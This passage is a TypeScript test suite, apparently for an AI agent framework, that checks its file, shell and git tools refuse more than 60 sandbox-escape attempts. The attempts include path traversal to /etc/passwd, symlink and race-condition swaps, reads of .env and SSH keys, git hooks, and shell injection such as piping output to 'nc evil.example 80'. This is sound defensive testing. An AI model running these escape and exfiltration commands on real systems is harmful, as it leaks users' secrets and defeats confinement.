import { execFileSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import {
  linkSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AgentMeshError } from '@agentmesh/protocol';
import type { Tool } from '../../define-tool.js';
import { createWorkspacePack, type WorkspacePack } from './tools.js';
import type { WorkspaceOptions } from './options.js';
import type { ResolvedPath } from './resolver.js';
import { GitInspectInput, gitInspect } from './git-handlers.js';
import { createWorkspaceRuntime } from './runtime.js';

/**
 * The adversarial corpus: every case must fail with a clear error (code, and the rule that fired or a message
 * naming the problem), and after every case the canary outside the workspace must be unchanged and its secret must
 * not appear in anything the tool returned.
 */

interface Fixture {
  base: string;
  ws: string;
  outside: string;
  secret: string;
  envSecret: string;
}

let fx: Fixture;
let pack: WorkspacePack;
const extraPacks: WorkspacePack[] = [];

function git(cwd: string, ...args: string[]): void {
  execFileSync(
    'git',
    ['-c', 'user.name=t', '-c', 'user.email=t@example.com', '-c', 'init.defaultBranch=main', ...args],
    {
      cwd,
      stdio: 'ignore',
      env: { PATH: process.env['PATH'] ?? '/usr/bin:/bin', HOME: '/nonexistent', GIT_CONFIG_NOSYSTEM: '1' },
    },
  );
}

function makeFixture(): Fixture {
  const base = realpathSync(mkdtempSync(join(tmpdir(), 'agentmesh-ws-adv-')));
  const ws = join(base, 'ws');
  const outside = join(base, 'outside');
  const secret = `CANARY-${randomUUID()}`;
  const envSecret = `ENVSECRET-${randomUUID()}`;
  mkdirSync(join(outside, 'dir'), { recursive: true });
  writeFileSync(join(outside, 'canary.txt'), secret);
  writeFileSync(join(outside, 'a.txt'), secret);
  writeFileSync(join(outside, 'dir', 'canary.txt'), secret);
  mkdirSync(join(ws, 'src'), { recursive: true });
  mkdirSync(join(ws, '.agentmesh'));
  mkdirSync(join(ws, 'private'));
  mkdirSync(join(ws, 'secrets'));
  mkdirSync(join(ws, 'keys'));
  mkdirSync(join(ws, 'config'));
  mkdirSync(join(ws, 'sub', '.git'), { recursive: true });
  writeFileSync(join(ws, 'a.txt'), 'hello\n');
  writeFileSync(join(ws, 'src', 'x.ts'), 'export const x = 1;\n');
  writeFileSync(join(ws, '.agentmesh', 'state.json'), '{}');
  writeFileSync(join(ws, 'private', 'notes.txt'), 'private');
  writeFileSync(join(ws, '.env'), `OPENAI_API_KEY=${envSecret}\n`);
  writeFileSync(join(ws, 'config', '.Env.local'), envSecret);
  writeFileSync(join(ws, 'keys', 'server.PEM'), envSecret);
  writeFileSync(join(ws, 'secrets', 'id_rsa'), envSecret);
  writeFileSync(join(ws, 'ID_ED25519'), envSecret);
  writeFileSync(join(ws, 'db.SQLITE'), envSecret);
  symlinkSync(join(outside, 'canary.txt'), join(ws, 'link-file'));
  symlinkSync(outside, join(ws, 'link-dir'));
  symlinkSync(join(ws, 'chain2'), join(ws, 'chain1'));
  symlinkSync(outside, join(ws, 'chain2'));
  symlinkSync('../outside/canary.txt', join(ws, 'rel-link'));
  symlinkSync(join(ws, 'loop2'), join(ws, 'loop1'));
  symlinkSync(join(ws, 'loop1'), join(ws, 'loop2'));
  symlinkSync(join(outside, 'not-yet'), join(ws, 'dangling'));
  symlinkSync(join(outside, 'no-dir'), join(ws, 'dangling-dir'));
  symlinkSync(join(ws, '.agentmesh', 'state.json'), join(ws, 'to-state'));
  symlinkSync(join(ws, '.env'), join(ws, 'innocent.txt'));
  symlinkSync(join(ws, 'a.txt'), join(ws, 'inside-link'));
  linkSync(join(outside, 'canary.txt'), join(ws, 'hard.txt'));
  git(ws, 'init', '-q');
  git(ws, 'add', 'a.txt', 'src/x.ts', '.env');
  git(ws, 'commit', '-q', '-m', 'init');
  return { base, ws, outside, secret, envSecret };
}

function snapshot(dir: string): string {
  const lines: string[] = [];
  const walk = (d: string): void => {
    for (const name of readdirSync(d).sort()) {
      const p = join(d, name);
      const s = statSync(p);
      if (s.isDirectory()) {
        lines.push(`${p}/`);
        walk(p);
      } else {
        lines.push(`${p} ${s.size} ${s.mtimeMs} ${readFileSync(p, 'utf8')}`);
      }
    }
  };
  walk(dir);
  return lines.join('\n');
}

let outsideBefore = '';

function packWith(options: Partial<WorkspaceOptions>, hooks = {}): WorkspacePack {
  const p = createWorkspacePack(
    { root: fx.ws, protected: ['private'], denylist: ['*.sqlite'], ...options },
    hooks,
  );
  extraPacks.push(p);
  return p;
}

function tool(p: WorkspacePack, name: string): Tool {
  const found = p.tools.find((t) => t.name === name);
  if (!found) throw new Error(`no tool ${name}`);
  return found;
}

function call(name: string, args: unknown, p: WorkspacePack = pack): Promise<unknown> {
  return tool(p, name).invoke(args);
}

/** Replaces folder `name` (inside the workspace) with a symlink to the outside folder. */
function swapFolderForLink(name: string): void {
  renameSync(join(fx.ws, name), join(fx.ws, `${name}.moved`));
  symlinkSync(fx.outside, join(fx.ws, name));
}

function swapHook(when: (resolved: ResolvedPath) => boolean, swap: () => void) {
  let done = false;
  return {
    beforeOpen: (resolved: ResolvedPath) => {
      if (!done && when(resolved)) {
        done = true;
        swap();
      }
    },
  };
}

interface Case {
  name: string;
  run: () => Promise<unknown>;
  code: string;
  /** The `details.rule` expected, or a pattern the message must match. */
  rule?: string;
  message?: RegExp;
}

const outsideAbs = (): string => join(fx.outside, 'canary.txt');

const MUTATING_GIT = [
  'commit',
  'push',
  'reset',
  'checkout',
  'config',
  'clean',
  'gc',
  'rebase',
  'merge',
  'add',
  'rm',
  'mv',
  'stash',
  'tag',
  'branch',
  'update-ref',
  'apply',
  'init',
  'fetch',
  'pull',
  'worktree',
  'restore',
  'switch',
  'cherry-pick',
  'revert',
];

const cases: Case[] = [
  // `..` chains
  {
    name: 'read ../ to the canary',
    run: () => call('fs.read_file', { path: '../outside/canary.txt' }),
    code: 'permission_denied',
    rule: 'parent_segment',
  },
  {
    name: 'read a long ../ chain to /etc/passwd',
    run: () => call('fs.read_file', { path: '../../../../../../../../etc/passwd' }),
    code: 'permission_denied',
    rule: 'parent_segment',
  },
  {
    name: 'read a/../../ climbing out',
    run: () => call('fs.read_file', { path: 'src/../../outside/canary.txt' }),
    code: 'permission_denied',
    rule: 'parent_segment',
  },
  {
    name: 'read ./../ with dot prefix',
    run: () => call('fs.read_file', { path: './../outside/canary.txt' }),
    code: 'permission_denied',
    rule: 'parent_segment',
  },
  {
    name: 'read src//..//.. with doubled slashes',
    run: () => call('fs.read_file', { path: 'src//..//../outside/canary.txt' }),
    code: 'permission_denied',
    rule: 'parent_segment',
  },
  {
    name: 'write ../ over the canary',
    run: () => call('fs.write_file', { path: '../outside/canary.txt', content: 'pwned' }),
    code: 'permission_denied',
    rule: 'parent_segment',
  },
  {
    name: 'list ..',
    run: () => call('fs.list_files', { path: '..' }),
    code: 'permission_denied',
    rule: 'parent_segment',
  },
  {
    name: 'search ../outside',
    run: () => call('fs.search_files', { query: 'CANARY', path: '../outside' }),
    code: 'permission_denied',
    rule: 'parent_segment',
  },
  // absolute paths
  {
    name: 'read the canary by absolute path',
    run: () => call('fs.read_file', { path: outsideAbs() }),
    code: 'permission_denied',
    rule: 'absolute_path',
  },
  {
    name: 'read /etc/passwd',
    run: () => call('fs.read_file', { path: '/etc/passwd' }),
    code: 'permission_denied',
    rule: 'absolute_path',
  },
  {
    name: 'read //etc/passwd',
    run: () => call('fs.read_file', { path: '//etc/passwd' }),
    code: 'permission_denied',
    rule: 'absolute_path',
  },
  {
    name: 'read a Windows drive path',
    run: () => call('fs.read_file', { path: 'C:/Windows/win.ini' }),
    code: 'permission_denied',
    rule: 'absolute_path',
  },
  {
    name: 'read ~/.ssh/id_rsa',
    run: () => call('fs.read_file', { path: '~/.ssh/id_rsa' }),
    code: 'permission_denied',
    rule: 'home_path',
  },
  {
    name: 'write the canary by absolute path',
    run: () => call('fs.write_file', { path: outsideAbs(), content: 'pwned' }),
    code: 'permission_denied',
    rule: 'absolute_path',
  },
  {
    name: 'list an absolute folder',
    run: () => call('fs.list_files', { path: fx.outside }),
    code: 'permission_denied',
    rule: 'absolute_path',
  },
  // URL-encoded and unicode look-alikes
  {
    name: 'read %2e%2e/ encoded dots',
    run: () => call('fs.read_file', { path: '%2e%2e/outside/canary.txt' }),
    code: 'invalid_arguments',
    rule: 'encoded_path',
  },
  {
    name: 'read %2E%2E%2F fully encoded',
    run: () => call('fs.read_file', { path: '%2E%2E%2Foutside%2Fcanary.txt' }),
    code: 'invalid_arguments',
    rule: 'encoded_path',
  },
  {
    name: 'read ..%2f mixed encoding',
    run: () => call('fs.read_file', { path: '..%2foutside%2fcanary.txt' }),
    code: 'invalid_arguments',
    rule: 'encoded_path',
  },
  {
    name: 'read %252e double encoding',
    run: () => call('fs.read_file', { path: '%252e%252e/outside/canary.txt' }),
    code: 'invalid_arguments',
    rule: 'encoded_path',
  },
  {
    name: 'read %c0%ae overlong UTF-8 dots',
    run: () => call('fs.read_file', { path: '%c0%ae%c0%ae/outside/canary.txt' }),
    code: 'invalid_arguments',
    rule: 'encoded_path',
  },
  {
    name: 'read a file:// URL',
    run: () => call('fs.read_file', { path: `file://${outsideAbs()}` }),
    code: 'invalid_arguments',
    rule: 'url_path',
  },
  {
    name: 'read fullwidth full stops \uFF0E\uFF0E/',
    run: () => call('fs.read_file', { path: '\uFF0E\uFF0E/outside/canary.txt' }),
    code: 'invalid_arguments',
    rule: 'lookalike_character',
  },
  {
    name: 'read one-dot leaders \u2024\u2024/',
    run: () => call('fs.read_file', { path: '\u2024\u2024/outside/canary.txt' }),
    code: 'invalid_arguments',
    rule: 'lookalike_character',
  },
  {
    name: 'read a division slash ..\u2215',
    run: () => call('fs.read_file', { path: '..\u2215outside\u2215canary.txt' }),
    code: 'invalid_arguments',
    rule: 'lookalike_character',
  },
  {
    name: 'read a fullwidth solidus ..\uFF0F',
    run: () => call('fs.read_file', { path: '..\uFF0Foutside\uFF0Fcanary.txt' }),
    code: 'invalid_arguments',
    rule: 'lookalike_character',
  },
  {
    name: 'read small full stops \uFE52\uFE52/',
    run: () => call('fs.read_file', { path: '\uFE52\uFE52/outside/canary.txt' }),
    code: 'invalid_arguments',
    rule: 'lookalike_character',
  },
  {
    name: 'read with a zero-width space in ..',
    run: () => call('fs.read_file', { path: '.\u200B./outside/canary.txt' }),
    code: 'invalid_arguments',
    rule: 'lookalike_character',
  },
  {
    name: 'read with a right-to-left override',
    run: () => call('fs.read_file', { path: 'txt.\u202Eenv.' }),
    code: 'invalid_arguments',
    rule: 'lookalike_character',
  },
  {
    name: 'write through fullwidth dots',
    run: () => call('fs.write_file', { path: '\uFF0E\uFF0E/outside/canary.txt', content: 'x' }),
    code: 'invalid_arguments',
    rule: 'lookalike_character',
  },
  {
    name: 'read backslash separators',
    run: () => call('fs.read_file', { path: '..\\outside\\canary.txt' }),
    code: 'invalid_arguments',
    rule: 'backslash',
  },
  // NUL bytes, control characters, very long paths
  {
    name: 'read with a NUL byte truncation trick',
    run: () => call('fs.read_file', { path: 'a.txt\u0000../../outside/canary.txt' }),
    code: 'invalid_arguments',
    rule: 'nul_byte',
  },
  {
    name: 'write with a NUL byte',
    run: () => call('fs.write_file', { path: 'new\u0000.txt', content: 'x' }),
    code: 'invalid_arguments',
    rule: 'nul_byte',
  },
  {
    name: 'read with a newline in the path',
    run: () => call('fs.read_file', { path: 'a.txt\n../outside/canary.txt' }),
    code: 'invalid_arguments',
    rule: 'control_character',
  },
  {
    name: 'read a 5000-character path',
    run: () => call('fs.read_file', { path: 'a/'.repeat(2500) }),
    code: 'invalid_arguments',
    message: /path/,
  },
  {
    name: 'read a path over 4096 bytes in multibyte characters',
    run: () => call('fs.read_file', { path: '\u00e9'.repeat(2100) }),
    code: 'invalid_arguments',
    rule: 'path_too_long',
  },
  {
    name: 'read a 300-byte file name',
    run: () => call('fs.read_file', { path: `${'x'.repeat(300)}.txt` }),
    code: 'invalid_arguments',
    rule: 'path_too_long',
  },
  {
    name: 'write a 300-byte file name',
    run: () => call('fs.write_file', { path: `${'y'.repeat(300)}`, content: 'x' }),
    code: 'invalid_arguments',
    rule: 'path_too_long',
  },
  // symlinks
  {
    name: 'read a symlink to a file outside',
    run: () => call('fs.read_file', { path: 'link-file' }),
    code: 'permission_denied',
    rule: 'outside_workspace',
  },
  {
    name: 'read through a symlink to a folder outside',
    run: () => call('fs.read_file', { path: 'link-dir/canary.txt' }),
    code: 'permission_denied',
    rule: 'outside_workspace',
  },
  {
    name: 'read through a chain of symlinks',
    run: () => call('fs.read_file', { path: 'chain1/canary.txt' }),
    code: 'permission_denied',
    rule: 'outside_workspace',
  },
  {
    name: 'read a relative symlink that climbs out',
    run: () => call('fs.read_file', { path: 'rel-link' }),
    code: 'permission_denied',
    rule: 'outside_workspace',
  },
  {
    name: 'read a symlink loop',
    run: () => call('fs.read_file', { path: 'loop1' }),
    code: 'permission_denied',
    rule: 'symbolic_link',
  },
  {
    name: 'write through a symlink to a file outside',
    run: () => call('fs.write_file', { path: 'link-file', content: 'pwned' }),
    code: 'permission_denied',
    rule: 'outside_workspace',
  },
  {
    name: 'write through a symlink to a folder outside',
    run: () => call('fs.write_file', { path: 'link-dir/canary.txt', content: 'pwned' }),
    code: 'permission_denied',
    rule: 'outside_workspace',
  },
  {
    name: 'create a new file under a symlinked parent',
    run: () => call('fs.write_file', { path: 'link-dir/new.txt', content: 'pwned' }),
    code: 'permission_denied',
    rule: 'outside_workspace',
  },
  {
    name: 'create folders under a symlinked parent',
    run: () => call('fs.write_file', { path: 'link-dir/deep/new.txt', content: 'pwned', create_dirs: true }),
    code: 'permission_denied',
    rule: 'outside_workspace',
  },
  {
    name: 'write onto a dangling symlink pointing outside',
    run: () => call('fs.write_file', { path: 'dangling', content: 'pwned' }),
    code: 'permission_denied',
    rule: 'symbolic_link',
  },
  {
    name: 'create a file through a dangling folder symlink',
    run: () => call('fs.write_file', { path: 'dangling-dir/x/new.txt', content: 'pwned', create_dirs: true }),
    code: 'permission_denied',
    rule: 'symbolic_link',
  },
  {
    name: 'mode create onto a dangling symlink',
    run: () => call('fs.write_file', { path: 'dangling', content: 'pwned', mode: 'create' }),
    code: 'permission_denied',
    rule: 'symbolic_link',
  },
  {
    name: 'list a symlinked folder outside',
    run: () => call('fs.list_files', { path: 'link-dir' }),
    code: 'permission_denied',
    rule: 'outside_workspace',
  },
  {
    name: 'search a symlinked folder outside',
    run: () => call('fs.search_files', { query: 'CANARY', path: 'link-dir' }),
    code: 'permission_denied',
    rule: 'outside_workspace',
  },
  // hard links
  {
    name: 'read a hard link to the canary',
    run: () => call('fs.read_file', { path: 'hard.txt' }),
    code: 'permission_denied',
    rule: 'hard_link',
  },
  {
    name: 'overwrite a hard link to the canary',
    run: () => call('fs.write_file', { path: 'hard.txt', content: 'pwned' }),
    code: 'permission_denied',
    rule: 'hard_link',
  },
  {
    name: 'append to a hard link to the canary',
    run: () => call('fs.write_file', { path: 'hard.txt', content: 'pwned', mode: 'append' }),
    code: 'permission_denied',
    rule: 'hard_link',
  },
  // swapped between check and use
  {
    name: 'read: a folder swapped for a symlink between check and use',
    run: () => {
      mkdirSync(join(fx.ws, 'swap-r'));
      writeFileSync(join(fx.ws, 'swap-r', 'canary.txt'), 'inside');
      const p = packWith(
        {},
        swapHook(
          (r) => r.relative === 'swap-r/canary.txt',
          () => swapFolderForLink('swap-r'),
        ),
      );
      return call('fs.read_file', { path: 'swap-r/canary.txt' }, p);
    },
    code: 'permission_denied',
    rule: 'symbolic_link',
  },
  {
    name: 'write a new file: its folder swapped for a symlink between check and use',
    run: () => {
      mkdirSync(join(fx.ws, 'swap-w'));
      const p = packWith(
        {},
        swapHook(
          (r) => r.relative === 'swap-w/new.txt',
          () => swapFolderForLink('swap-w'),
        ),
      );
      return call('fs.write_file', { path: 'swap-w/new.txt', content: 'pwned' }, p);
    },
    code: 'permission_denied',
    rule: 'symbolic_link',
  },
  {
    name: 'overwrite a file: its folder swapped for a symlink between check and use',
    run: () => {
      mkdirSync(join(fx.ws, 'swap-o'));
      writeFileSync(join(fx.ws, 'swap-o', 'a.txt'), 'inside');
      const p = packWith(
        {},
        swapHook(
          (r) => r.relative === 'swap-o/a.txt',
          () => swapFolderForLink('swap-o'),
        ),
      );
      return call('fs.write_file', { path: 'swap-o/a.txt', content: 'pwned' }, p);
    },
    code: 'permission_denied',
    rule: 'symbolic_link',
  },
  {
    name: 'read: a file swapped for a symlink between check and use',
    run: () => {
      writeFileSync(join(fx.ws, 'swap-file.txt'), 'inside');
      const p = packWith(
        {},
        swapHook(
          (r) => r.relative === 'swap-file.txt',
          () => {
            rmSync(join(fx.ws, 'swap-file.txt'));
            symlinkSync(outsideAbs(), join(fx.ws, 'swap-file.txt'));
          },
        ),
      );
      return call('fs.read_file', { path: 'swap-file.txt' }, p);
    },
    code: 'permission_denied',
    rule: 'symbolic_link',
  },
  {
    name: 'list: a folder swapped for a symlink between check and use',
    run: () => {
      mkdirSync(join(fx.ws, 'swap-l'));
      const p = packWith(
        {},
        swapHook(
          (r) => r.relative === 'swap-l',
          () => swapFolderForLink('swap-l'),
        ),
      );
      return call('fs.list_files', { path: 'swap-l' }, p);
    },
    code: 'permission_denied',
    rule: 'symbolic_link',
  },
  {
    name: 'run: a cwd swapped for a symlink between check and use',
    run: () => {
      mkdirSync(join(fx.ws, 'swap-c'));
      const p = packWith(
        {},
        swapHook(
          (r) => r.relative === 'swap-c',
          () => swapFolderForLink('swap-c'),
        ),
      );
      return call('shell.run_command', { argv: ['cat', 'canary.txt'], cwd: 'swap-c' }, p);
    },
    code: 'permission_denied',
    rule: 'symbolic_link',
  },
  // protected folders
  {
    name: 'read .agentmesh/',
    run: () => call('fs.read_file', { path: '.agentmesh/state.json' }),
    code: 'permission_denied',
    rule: 'protected_folder',
  },
  {
    name: 'read .AgentMesh/ in another case',
    run: () => call('fs.read_file', { path: '.AgentMesh/state.json' }),
    code: 'permission_denied',
    rule: 'protected_folder',
  },
  {
    name: 'read a configured protected folder',
    run: () => call('fs.read_file', { path: 'private/notes.txt' }),
    code: 'permission_denied',
    rule: 'protected_folder',
  },
  {
    name: 'read a symlink into a protected folder',
    run: () => call('fs.read_file', { path: 'to-state' }),
    code: 'permission_denied',
    rule: 'protected_folder',
  },
  {
    name: 'list .agentmesh',
    run: () => call('fs.list_files', { path: '.agentmesh' }),
    code: 'permission_denied',
    rule: 'protected_folder',
  },
  {
    name: 'write .git/config',
    run: () => call('fs.write_file', { path: '.git/config', content: '[core]\n\tfsmonitor = evil' }),
    code: 'permission_denied',
    rule: 'protected_folder',
  },
  {
    name: 'write a .git hook',
    run: () =>
      call('fs.write_file', { path: '.git/hooks/pre-commit', content: '#!/bin/sh', create_dirs: true }),
    code: 'permission_denied',
    rule: 'protected_folder',
  },
  {
    name: 'write a nested repository .git',
    run: () => call('fs.write_file', { path: 'sub/.git/config', content: 'x' }),
    code: 'permission_denied',
    rule: 'protected_folder',
  },
  {
    name: 'write .agentmesh/',
    run: () => call('fs.write_file', { path: '.agentmesh/state.json', content: 'x' }),
    code: 'permission_denied',
    rule: 'protected_folder',
  },
  // denylisted names in any case
  {
    name: 'read .env',
    run: () => call('fs.read_file', { path: '.env' }),
    code: 'permission_denied',
    rule: 'sensitive_name',
  },
  {
    name: 'read .ENV',
    run: () => call('fs.read_file', { path: '.ENV' }),
    code: 'permission_denied',
    rule: 'sensitive_name',
  },
  {
    name: 'read config/.Env.local',
    run: () => call('fs.read_file', { path: 'config/.Env.local' }),
    code: 'permission_denied',
    rule: 'sensitive_name',
  },
  {
    name: 'read keys/server.PEM',
    run: () => call('fs.read_file', { path: 'keys/server.PEM' }),
    code: 'permission_denied',
    rule: 'sensitive_name',
  },
  {
    name: 'read secrets/id_rsa',
    run: () => call('fs.read_file', { path: 'secrets/id_rsa' }),
    code: 'permission_denied',
    rule: 'sensitive_name',
  },
  {
    name: 'read ID_ED25519',
    run: () => call('fs.read_file', { path: 'ID_ED25519' }),
    code: 'permission_denied',
    rule: 'sensitive_name',
  },
  {
    name: 'read a configured denylist name db.SQLITE',
    run: () => call('fs.read_file', { path: 'db.SQLITE' }),
    code: 'permission_denied',
    rule: 'sensitive_name',
  },
  {
    name: 'read an innocent-named symlink to .env',
    run: () => call('fs.read_file', { path: 'innocent.txt' }),
    code: 'permission_denied',
    rule: 'sensitive_name',
  },
  {
    name: 'write .env',
    run: () => call('fs.write_file', { path: '.env', content: 'x' }),
    code: 'permission_denied',
    rule: 'sensitive_name',
  },
  {
    name: 'write .NPMRC',
    run: () => call('fs.write_file', { path: '.NPMRC', content: '//registry/:_authToken=x' }),
    code: 'permission_denied',
    rule: 'sensitive_name',
  },
  {
    name: 'write deploy/cert.P12',
    run: () => call('fs.write_file', { path: 'deploy/cert.P12', content: 'x', create_dirs: true }),
    code: 'permission_denied',
    rule: 'sensitive_name',
  },
  {
    name: 'write authorized_keys',
    run: () => call('fs.write_file', { path: 'authorized_keys', content: 'ssh-ed25519 AAAA' }),
    code: 'permission_denied',
    rule: 'sensitive_name',
  },
  // disallowed argv and shell metacharacters without a shell
  {
    name: 'run rm (not allowed)',
    run: () => call('shell.run_command', { argv: ['rm', '-rf', 'link-dir/'] }),
    code: 'permission_denied',
    rule: 'argv_not_allowed',
  },
  {
    name: 'run curl (not allowed)',
    run: () => call('shell.run_command', { argv: ['curl', 'https://example.com'] }),
    code: 'permission_denied',
    rule: 'argv_not_allowed',
  },
  {
    name: 'run git commit through the shell tool',
    run: () => call('shell.run_command', { argv: ['git', 'commit', '-m', 'x'] }),
    code: 'permission_denied',
    rule: 'argv_not_allowed',
  },
  {
    name: 'run a workspace script ./evil.sh',
    run: () => call('shell.run_command', { argv: ['./evil.sh'] }),
    code: 'permission_denied',
    rule: 'argv_not_allowed',
  },
  {
    name: 'run sh -c',
    run: () => call('shell.run_command', { argv: ['sh', '-c', 'cat ../outside/canary.txt'] }),
    code: 'permission_denied',
    rule: 'shell_disabled',
  },
  {
    name: 'run bash -c',
    run: () => call('shell.run_command', { argv: ['bash', '-c', 'cat /etc/passwd'] }),
    code: 'permission_denied',
    rule: 'shell_disabled',
  },
  {
    name: 'run env as a program runner',
    run: () => call('shell.run_command', { argv: ['env', 'cat', 'a.txt'] }),
    code: 'permission_denied',
    rule: 'shell_disabled',
  },
  {
    name: 'run a command string without allow_shell',
    run: () => call('shell.run_command', { command: `cat ${outsideAbs()}` }),
    code: 'permission_denied',
    rule: 'shell_disabled',
  },
  {
    name: 'run with ";" as an argument',
    run: () => call('shell.run_command', { argv: ['cat', 'a.txt', ';', 'cat', '../outside/canary.txt'] }),
    code: 'permission_denied',
    rule: 'shell_metacharacters',
  },
  {
    name: 'run with a pipe',
    run: () => call('shell.run_command', { argv: ['cat', 'a.txt', '|', 'nc', 'evil.example', '80'] }),
    code: 'permission_denied',
    rule: 'shell_metacharacters',
  },
  {
    name: 'run with a redirect',
    run: () => call('shell.run_command', { argv: ['echo', 'x', '>', '../outside/canary.txt'] }),
    code: 'permission_denied',
    rule: 'shell_metacharacters',
  },
  {
    name: 'run a whole command line as argv[0]',
    run: () => call('shell.run_command', { argv: ['cat a.txt && cat /etc/passwd'] }),
    code: 'permission_denied',
    rule: 'shell_metacharacters',
  },
  {
    name: 'run with $(...) substitution',
    run: () => call('shell.run_command', { argv: ['echo', '$(cat ../outside/canary.txt)'] }),
    code: 'permission_denied',
    rule: 'shell_metacharacters',
  },
  {
    name: 'run with backticks',
    run: () => call('shell.run_command', { argv: ['echo', '`cat ../outside/canary.txt`'] }),
    code: 'permission_denied',
    rule: 'shell_metacharacters',
  },
  {
    name: 'run with $HOME expansion',
    run: () => call('shell.run_command', { argv: ['cat', '$HOME/.ssh/id_rsa'] }),
    code: 'permission_denied',
    rule: 'shell_metacharacters',
  },
  {
    name: 'run grep -R (follows links while recursing)',
    run: () => call('shell.run_command', { argv: ['grep', '-R', 'CANARY', '.'] }),
    code: 'permission_denied',
    rule: 'link_following_option',
  },
  {
    name: 'run grep -rnR in a cluster',
    run: () => call('shell.run_command', { argv: ['grep', '-nR', 'CANARY', '.'] }),
    code: 'permission_denied',
    rule: 'link_following_option',
  },
  {
    name: 'run rg --follow',
    run: () => call('shell.run_command', { argv: ['rg', '--follow', 'CANARY'] }),
    code: 'permission_denied',
    rule: 'link_following_option',
  },
  {
    name: 'run ls -RL',
    run: () => call('shell.run_command', { argv: ['ls', '-RL', '.'] }),
    code: 'permission_denied',
    rule: 'link_following_option',
  },
  // argument paths and cwd escapes
  {
    name: 'run cat on ../ canary',
    run: () => call('shell.run_command', { argv: ['cat', '../outside/canary.txt'] }),
    code: 'permission_denied',
    rule: 'argument_path',
  },
  {
    name: 'run cat on the absolute canary',
    run: () => call('shell.run_command', { argv: ['cat', outsideAbs()] }),
    code: 'permission_denied',
    rule: 'argument_path',
  },
  {
    name: 'run grep -f/etc/passwd (glued flag path)',
    run: () => call('shell.run_command', { argv: ['grep', `-f${outsideAbs()}`, 'a.txt'] }),
    code: 'permission_denied',
    rule: 'argument_path',
  },
  {
    name: 'run grep --file=../ (option value path)',
    run: () => call('shell.run_command', { argv: ['grep', '--file=../outside/canary.txt', 'a.txt'] }),
    code: 'permission_denied',
    rule: 'argument_path',
  },
  {
    name: 'run cat on a symlink to outside',
    run: () => call('shell.run_command', { argv: ['cat', 'link-file'] }),
    code: 'permission_denied',
    rule: 'outside_workspace',
  },
  {
    name: 'run cat on .env',
    run: () => call('shell.run_command', { argv: ['cat', '.env'] }),
    code: 'permission_denied',
    rule: 'sensitive_name',
  },
  {
    name: 'run cat on a hidden key in any case',
    run: () => call('shell.run_command', { argv: ['cat', 'Secrets/ID_RSA'] }),
    code: 'permission_denied',
    rule: 'sensitive_name',
  },
  {
    name: 'run in cwd ..',
    run: () => call('shell.run_command', { argv: ['ls'], cwd: '..' }),
    code: 'permission_denied',
    rule: 'parent_segment',
  },
  {
    name: 'run in an absolute cwd',
    run: () => call('shell.run_command', { argv: ['ls'], cwd: fx.outside }),
    code: 'permission_denied',
    rule: 'absolute_path',
  },
  {
    name: 'run in a symlinked cwd outside',
    run: () => call('shell.run_command', { argv: ['ls'], cwd: 'link-dir' }),
    code: 'permission_denied',
    rule: 'outside_workspace',
  },
  {
    name: 'run in cwd .git (write-protected)',
    run: () => call('shell.run_command', { argv: ['ls'], cwd: '.git' }),
    code: 'permission_denied',
    rule: 'protected_folder',
  },
  {
    name: 'run in cwd src with ../../ argument',
    run: () => call('shell.run_command', { argv: ['cat', '../../outside/canary.txt'], cwd: 'src' }),
    code: 'permission_denied',
    rule: 'argument_path',
  },
  // git
  ...MUTATING_GIT.map((sub): Case => ({
    name: `git.inspect ${sub} (mutating subcommand)`,
    run: () => call('git.inspect', { subcommand: sub }),
    code: 'invalid_arguments',
    message: /status, log, diff, show, blame/,
  })),
  {
    name: 'git.inspect handler refuses commit even past schema validation',
    run: () => {
      const runtime = createWorkspaceRuntime({ root: fx.ws });
      return gitInspect(
        runtime,
        { ...GitInspectInput.parse({ subcommand: 'status' }), subcommand: 'commit' as never },
        { signal: new AbortController().signal },
      );
    },
    code: 'permission_denied',
    rule: 'git_subcommand',
  },
  {
    name: 'git diff --output= writes a file',
    run: () => call('git.inspect', { subcommand: 'diff', args: [`--output=${outsideAbs()}`] }),
    code: 'permission_denied',
    rule: 'git_option',
  },
  {
    name: 'git diff --no-index reads any file',
    run: () => call('git.inspect', { subcommand: 'diff', args: ['--no-index', outsideAbs(), 'a.txt'] }),
    code: 'permission_denied',
    rule: 'git_option',
  },
  {
    name: 'git diff --ext-diff runs a program',
    run: () => call('git.inspect', { subcommand: 'diff', args: ['--ext-diff'] }),
    code: 'permission_denied',
    rule: 'git_option',
  },
  {
    name: 'git blame --contents reads a file',
    run: () =>
      call('git.inspect', { subcommand: 'blame', args: ['--contents', outsideAbs()], paths: ['a.txt'] }),
    code: 'permission_denied',
    rule: 'git_option',
  },
  {
    name: 'git log -O orderfile',
    run: () => call('git.inspect', { subcommand: 'log', args: [`-O${outsideAbs()}`] }),
    code: 'permission_denied',
    rule: 'git_option',
  },
  {
    name: 'git show HEAD:.env',
    run: () => call('git.inspect', { subcommand: 'show', args: ['HEAD:.env'] }),
    code: 'permission_denied',
    rule: 'sensitive_name',
  },
  {
    name: 'git log paths ../outside',
    run: () => call('git.inspect', { subcommand: 'log', paths: ['../outside'] }),
    code: 'permission_denied',
    rule: 'parent_segment',
  },
  {
    name: 'git log paths through a symlink outside',
    run: () => call('git.inspect', { subcommand: 'log', paths: ['link-dir'] }),
    code: 'permission_denied',
    rule: 'outside_workspace',
  },
  {
    name: 'git args smuggling "--"',
    run: () => call('git.inspect', { subcommand: 'log', args: ['--', '../outside'] }),
    code: 'permission_denied',
    rule: 'git_option',
  },
];

beforeAll(() => {
  fx = makeFixture();
  pack = createWorkspacePack({ root: fx.ws, protected: ['private'], denylist: ['*.sqlite'] });
  outsideBefore = snapshot(fx.outside);
});

afterAll(async () => {
  await pack?.close();
  for (const p of extraPacks) await p.close();
  rmSync(fx.base, { recursive: true, force: true });
});

describe('workspace adversarial corpus', () => {
  it('has at least 60 cases', () => {
    expect(cases.length).toBeGreaterThanOrEqual(60);
  });

  it.each(cases)('$name', async (c) => {
    const outcome = await c.run().then(
      (value) => ({ ok: true as const, value }),
      (error: unknown) => ({ ok: false as const, error }),
    );
    expect(outcome.ok, `expected a refusal, got ${JSON.stringify(outcome)}`).toBe(false);
    const error = (outcome as { error: unknown }).error;
    expect(error).toBeInstanceOf(AgentMeshError);
    const e = error as AgentMeshError;
    expect(e.code).toBe(c.code);
